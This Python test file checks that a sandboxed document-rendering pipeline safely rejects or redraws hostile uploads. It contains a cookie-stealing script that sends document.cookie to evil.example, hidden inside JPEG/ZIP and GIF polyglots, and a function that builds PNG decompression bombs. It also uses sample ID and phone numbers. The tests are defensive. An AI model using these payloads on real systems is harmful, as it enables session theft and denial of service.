"""Files made to do harm when they are shown: a typed trouble, or a picture that holds nothing of them."""

from __future__ import annotations

import io
import os
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pillow_heif
import pytest
from docx import Document
from PIL import Image

from pipeline import chinese_font
from pipeline.desk.evidence import Evidence, Viewer
from pipeline.domain.message import Media
from pipeline.domain.pages import PageGeometry
from pipeline.pictures.requests import GridAnswer, GridRequest, ShowAnswer, ShowRequest, Watermark
from pipeline.pictures.trouble import SENTENCES, NotShownError, Trouble
from pipeline.pictures.watermark import load_pen, watermarked
from pipeline.profile.schema import Profile
from pipeline.sandbox.errors import JobError, JobTimeoutError
from pipeline.sandbox.frame import JobReply
from pipeline.sandbox.pool import Jail
from pipeline.store.store import open_store
from tests.extract.pdf_files import form, pdf
from tests.extract.test_pdf_hostile import raw_pdf
from tests.pictures.office import NOW, VIEWER, Office, letter, pixels

MARK = Watermark(text="张三 zs", plain="zs")
SECRET = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def ask(jail: Jail, content: bytes, media: Media, *, page: int = 1, geometry: PageGeometry | None = None) -> ShowAnswer:
    request = ShowRequest(media=media, page=page, geometry=geometry, watermark=MARK)
    reply = jail.run("show", request.model_dump_json().encode(), content)
    answer = ShowAnswer.model_validate_json(reply.record_json)
    assert (answer.trouble is None) == bool(reply.blobs[0])
    return answer


def png_bomb(side: int) -> bytes:
    """A PNG that says it is `side` dots wide and high, all of them there."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    line = bytes(side // 8 + 2)
    data = b"".join(packer.compress(line) for _ in range(side)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def assert_says_why(content: bytes, media: Media, trouble: Trouble, jail: Jail) -> None:
    started = time.monotonic()
    assert ask(jail, content, media).trouble is trouble
    assert time.monotonic() - started < 10
    assert NotShownError(trouble).sentence == SENTENCES[trouble]


def many_frames() -> bytes:
    stream = io.BytesIO()
    frames = [Image.new("1", (200, 200), number % 2) for number in range(60)]
    frames[0].save(stream, "TIFF", save_all=True, append_images=frames[1:])
    return stream.getvalue()


def jpeg() -> bytes:
    stream = io.BytesIO()
    Image.new("RGB", (400, 300), (200, 180, 90)).save(stream, "JPEG")
    return stream.getvalue()


@pytest.mark.parametrize(
    ("content", "media", "trouble"),
    [
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>", Media.PNG, Trouble.UNREADABLE),
        (b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n", Media.JPEG, Trouble.UNREADABLE),
        (jpeg()[:300], Media.JPEG, Trouble.UNREADABLE),
        (b"", Media.PNG, Trouble.UNREADABLE),
        (b"%PDF-1.7 nothing", Media.PDF, Trouble.UNREADABLE),
        (raw_pdf(b"0 0 m", media="0 0 1 1000000"), Media.PDF, Trouble.REJECTED),
        (b"PK\x05\x06" + bytes(18), Media.DOCX, Trouble.UNREADABLE),
        (b"text", Media.TEXT, Trouble.NO_PICTURE),
        (b"{\\rtf", Media.RTF, Trouble.NO_PICTURE),
    ],
)
def test_what_cannot_be_shown_says_why(content: bytes, media: Media, trouble: Trouble, jail: Jail) -> None:
    assert_says_why(content, media, trouble, jail)


@pytest.mark.parametrize("side", [13_300, 40_000])
def test_a_picture_of_too_many_dots_is_not_begun(side: int, jail: Jail) -> None:
    assert_says_why(png_bomb(side), Media.PNG, Trouble.REJECTED, jail)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "GIF", "BMP", "TIFF", "WEBP", "HEIF"])
def test_every_kind_of_picture_is_shown(kind: str, office: Office) -> None:
    pillow_heif.register_heif_opener()
    stream = io.BytesIO()
    image = Image.new("RGB", (640, 480), (250, 250, 250))
    image.paste((20, 60, 160), (100, 100, 300, 200))
    image.save(stream, kind)
    case_id = office.take(letter((f"picture.{kind.lower()}", stream.getvalue())))
    picture = office.page(case_id, revealed=True)
    assert picture.width >= 640 and picture.pages == 1
    shown = pixels(picture)
    height, width = shown.shape[:2]
    assert np.abs(shown[height * 150 // 480, width * 200 // 640].astype(int) - (20, 60, 160)).max() < 40


def test_a_hundred_thousand_pages(jail: Jail) -> None:
    content = raw_pdf(b"0 0 m 9 9 l S", pages=100_000)
    answer = ask(jail, content, Media.PDF)
    assert answer.trouble is None and answer.pages == 50
    assert ask(jail, content, Media.PDF, page=51).trouble is Trouble.NO_PAGE
    assert ask(jail, content, Media.PDF, page=99_999).trouble is Trouble.NO_PAGE


def test_a_pdf_page_of_ten_thousand_metres_fits_the_budget(jail: Jail) -> None:
    answer = ask(jail, raw_pdf(b"0 0 m 9 9 l S", media="0 0 10000000 10000000"), Media.PDF)
    assert answer.trouble is not None or (answer.width_px or 0) <= 1600


def test_frames_beyond_the_limit_are_not_there(jail: Jail) -> None:
    content = many_frames()
    assert ask(jail, content, Media.TIFF, page=20).pages == 20
    assert ask(jail, content, Media.TIFF, page=21).trouble is Trouble.NO_PAGE


@pytest.mark.parametrize(
    "matrix",
    [(0.0,) * 9, (1e300, 0, 0, 0, 1e300, 0, 1e300, 0, 1), (0, 0, 0, 0, 0, 0, 0, 0, 1), (-1, 0, 0, 0, -1, 0, 0, 0, 1)],
)
def test_a_geometry_out_of_its_mind_stays_in_the_jail(matrix: tuple[float, ...], jail: Jail) -> None:
    """It comes from a reading process, which has seen the sender's bytes."""
    fields = {"page": 1, "source_width_px": 400, "source_height_px": 300, "width_px": 90_000, "height_px": 90_000}
    geometry = PageGeometry.model_validate({**fields, "matrix": matrix})
    try:
        answer = ask(jail, jpeg(), Media.JPEG, geometry=geometry)
    except JobError:
        return
    assert answer.trouble is not None or (answer.width_px, answer.height_px) == (1600, 1600)


def test_a_polyglot_is_drawn_anew(office: Office) -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("evil.html", SECRET)
    both = jpeg() + SECRET + stream.getvalue()
    gif = io.BytesIO()
    Image.new("P", (300, 200), 3).save(gif, "GIF")
    script = gif.getvalue() + b"*/=1;" + SECRET
    case_id = office.take(letter(("both.jpg", both), ("script.gif", script)))
    for item in office.evidence.attachments(case_id):
        picture = office.page(case_id, item.file, revealed=True)
        assert SECRET[:8] not in picture.content and b"PK\x03\x04" not in picture.content
        assert zipfile.is_zipfile(io.BytesIO(picture.content)) is False
        assert picture.content.startswith(b"\xff\xd8\xff") and picture.content.endswith(b"\xff\xd9")
        assert pixels(picture).shape == (picture.height, picture.width, 3)


@pytest.fixture
def scratch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the reading processes of one test write: those of other tests come and go beside it."""
    folder = tmp_path / "scratch"
    folder.mkdir()
    monkeypatch.setenv("TMPDIR", str(folder))
    return folder


@pytest.fixture
def new_office(scratch: Path, tmp_path: Path, profile: Profile) -> Iterator[Office]:
    """An office with reading processes of its own; they end with the test."""
    with (
        open_store(f"sqlite:///{tmp_path / 'beian.sqlite3'}", data_dir=tmp_path / "data") as store,
        Jail(
            "pipeline.reading.jobs", ["langfang-2018"], processes=1, wall_seconds=120, memory_bytes=3072 << 20
        ) as jail,
    ):
        yield Office(
            store=store, jail=jail, profile=profile, evidence=Evidence(store, jail, profile, clock=lambda: NOW)
        )


def test_a_hostile_file_is_a_typed_error_and_leaves_nothing(new_office: Office, scratch: Path) -> None:
    untouched = scratch.stat().st_mtime_ns
    case_id = new_office.take(
        letter(("bomb.png", png_bomb(13_300)), ("page.jpg", b"\xff\xd8\xff\xe0" + os.urandom(3_000)))
    )
    for file, trouble in ((1, Trouble.REJECTED), (2, Trouble.UNREADABLE)):
        with pytest.raises(NotShownError) as caught:
            new_office.page(case_id, file, revealed=True)
        assert caught.value.trouble is trouble
        assert caught.value.__cause__ is None, "nothing of a decoder's words"
    assert scratch.stat().st_mtime_ns > untouched, "the files were read somewhere else"
    ends_at = time.monotonic() + 30
    while left := list(scratch.iterdir()):
        assert time.monotonic() < ends_at, left
        time.sleep(0.1)


def test_a_page_that_never_ends_is_a_timeout(office: Office) -> None:
    class Stalled(Jail):
        def run(self, job: str, header: bytes, content: bytes) -> JobReply:
            if job == "show":
                raise JobTimeoutError("wall-clock limit")
            return office.jail.run(job, header, content)

    stalled = Stalled("pipeline.reading.jobs", ["langfang-2018"], processes=1, wall_seconds=1, memory_bytes=1 << 30)
    evidence = Evidence(office.store, stalled, office.profile, clock=lambda: NOW)
    case_id = office.take(letter(("form.pdf", pdf(form()))))
    with pytest.raises(NotShownError) as caught:
        evidence.page_picture(case_id, 1, 1, viewer=VIEWER, revealed=False)
    assert caught.value.trouble is Trouble.TIMEOUT


def test_a_viewer_s_name_is_only_drawn(office: Office) -> None:
    case_id = office.take(letter(("form.pdf", pdf(form()))))
    name = "\x00\u202e<b>" + "长" * 500 + "\ud800\n\t"
    viewer = Viewer(name=name, login="账号\r\nX" + "y" * 500)
    picture = office.evidence.page_picture(case_id, 1, 1, viewer=viewer, revealed=True)
    assert picture.width > 0


def test_numbers_in_word_files_are_masked_however_they_are_written(jail: Jail) -> None:
    document = Document()
    number = "132801197303094706"
    document.add_paragraph(f"经办人身份证 {number}，另一号 {number[:6]} {number[6:14]} {number[14:]}")
    table = document.add_table(rows=2, cols=18)
    for column, digit in enumerate(number):
        table.cell(0, column).text = digit
    table.cell(1, 0).text = "电话"
    table.cell(1, 1).text = "15375269383"
    stream = io.BytesIO()
    document.save(stream)
    for masked in (True, False):
        reply = jail.run("grid", GridRequest(masked=masked).model_dump_json().encode(), stream.getvalue())
        grid = GridAnswer.model_validate_json(reply.record_json).grid
        assert grid is not None
        first = "".join(cell.text for cell in grid.tables[0].cells if cell.row == 0)
        said = "".join("".join(grid.lines).split())
        assert (number in first) is not masked and (number in said) is not masked
        assert any(cell.text == "15375269383" for cell in grid.tables[0].cells)
        if masked:
            assert number[6:14] not in said and number[6:14] not in first


def test_a_table_without_end_is_cut(jail: Jail) -> None:
    document = Document()
    for _ in range(3):
        document.add_table(rows=1, cols=1).cell(0, 0).text = "长" * 10_000
    stream = io.BytesIO()
    document.save(stream)
    reply = jail.run("grid", GridRequest(masked=False).model_dump_json().encode(), stream.getvalue())
    grid = GridAnswer.model_validate_json(reply.record_json).grid
    assert grid is not None and all(len(cell.text) <= 4_000 for table in grid.tables for cell in table.cells)


def test_where_no_chinese_typeface_is(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(chinese_font, "_FOLDERS", ())
    pen = load_pen()
    assert not pen.chinese
    page = np.full((400, 600, 3), 255, dtype=np.uint8)
    plain = watermarked(page, Watermark(text="张三 zs", plain="zs"), pen)
    assert np.array_equal(plain, watermarked(page, Watermark(text="李四 zs", plain="zs"), pen))
    assert not np.array_equal(plain, page)
